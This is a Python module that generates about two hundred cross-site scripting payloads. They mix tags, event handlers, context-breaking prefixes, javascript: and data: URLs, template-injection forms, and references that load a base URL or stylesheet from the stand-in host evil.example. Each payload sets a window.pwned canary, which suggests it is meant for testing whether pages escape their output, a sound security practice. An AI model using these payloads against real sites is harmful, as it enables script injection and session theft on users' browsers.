"""Two hundred texts that run in a page which prints them unescaped; each would set window.pwned or alert."""

from __future__ import annotations

from itertools import product

_RUNS = "alert(1);window.pwned=1"
_TAGS = ("img", "svg", "body", "video", "audio", "iframe", "details", "input", "marquee", "object")
_EVENTS = ("onerror", "onload", "onfocus autofocus", "ontoggle open", "onmouseover")
_BREAKS = ("", '"', "'", '">', "'>", "</title>", "</script>", "-->", "</textarea>", "]]>")
_WHOLE = (
    "<script>{}</script>",
    "<ScRiPt>{}</ScRiPt>",
    "<svg><script>{}</script></svg>",
    "<a href=javascript:{}>x</a>",
    "<a href='data:text/html,<script>{}</script>'>x</a>",
    "<base href=//evil.example/>{}",
    "<math><mtext><img src=x onerror={}></mtext></math>",
    "<style>@import '//evil.example/{}'</style>",
    "<link rel=stylesheet href=//evil.example/{}>",
    "{{{{constructor.constructor('{}')()}}}}",
    "{{% print('{}') %}}",
    "${{{}}}",
    "<template><script>{}</script></template>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<form action=javascript:{}><button>x</button></form>",
)

PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys(
        [
            *(
                f"{begin}<{tag} src=x {event}={_RUNS}>"
                for begin, tag, event in product(_BREAKS[:4], _TAGS, _EVENTS)
            ),
            *(f"{begin}{whole.format(_RUNS)}" for begin, whole in product(_BREAKS[4:], _WHOLE[:3])),
            *(whole.format(_RUNS) for whole in _WHOLE),
            *(f'" {event}={_RUNS} x="' for event in _EVENTS),
        ]
    )
)
